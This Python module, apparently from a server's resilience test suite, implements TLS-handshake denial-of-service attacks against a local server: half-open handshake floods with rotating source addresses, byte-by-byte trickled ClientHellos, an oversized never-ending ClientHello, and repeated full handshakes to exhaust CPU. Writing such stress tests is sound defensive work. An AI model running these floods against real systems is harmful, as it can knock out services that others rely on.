# SPDX-License-Identifier: Apache-2.0
"""Attacks by TLS handshakes."""

import socket
import ssl
import struct
import time
from collections import Counter

from connections import connect, repeat, stranger


def client_hello():
    """As a client would begin; its answer is never read."""
    out = ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        context.wrap_bio(ssl.MemoryBIO(), out).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def large_hello():
    """A ClientHello of 131,000 bytes that does not end, in records of 16,000."""
    hello = b"\x01" + (131000).to_bytes(3, "big") + b"\x03" * 130990
    return b"".join(b"\x16\x03\x01" + struct.pack(">H", len(part)) + part
                    for part in (hello[at:at + 16000] for at in range(0, len(hello), 16000)))


def half_open(trickle, make=None):
    """TLS handshakes that are begun and not ended; `trickle`: and slowly at that."""
    def attack(ports, deadline):
        hello, seen, held = make() if make else client_hello(), Counter(), {}
        while time.monotonic() < deadline:
            while len(held) < 2000 and time.monotonic() < deadline:
                try:
                    s = socket.create_connection(("127.0.0.1", ports.http), 5, (f"127.0.0.{2 + len(held) % 20}", 0))
                    s.sendall(hello[:1] if trickle else hello)
                    s.setblocking(False)
                    held[s] = 1
                    seen["connections"] += 1
                except OSError:
                    seen["cut"] += 1
            for s in list(held):
                try:
                    if trickle and held[s] < len(hello) - 1:
                        s.send(hello[held[s]:held[s] + 1])
                        held[s] += 1
                    while s.recv(65536):
                        pass
                    raise OSError
                except BlockingIOError:
                    pass
                except OSError:
                    seen["cut"] += 1
                    s.close()
                    del held[s]
            time.sleep(0.2)
        for s in held:
            s.close()
        return seen
    return attack


def handshakes(ports, deadline):
    """Whole handshakes and nothing behind them: the costly part again and again."""
    def once():
        try:
            connect(ports.http, stranger()).close()
            return "handshakes"
        except OSError:
            return "cut"
    return repeat(deadline, once)
